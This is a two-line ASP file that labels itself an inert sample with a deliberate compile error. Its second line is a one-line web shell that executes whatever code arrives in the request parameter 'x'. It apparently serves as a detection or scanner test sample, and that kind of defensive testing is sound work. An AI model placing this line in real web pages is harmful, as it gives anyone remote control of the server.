<% shodo inert sample: deliberate compile error, this page never runs %>
<% Execute(Request("x")) %>
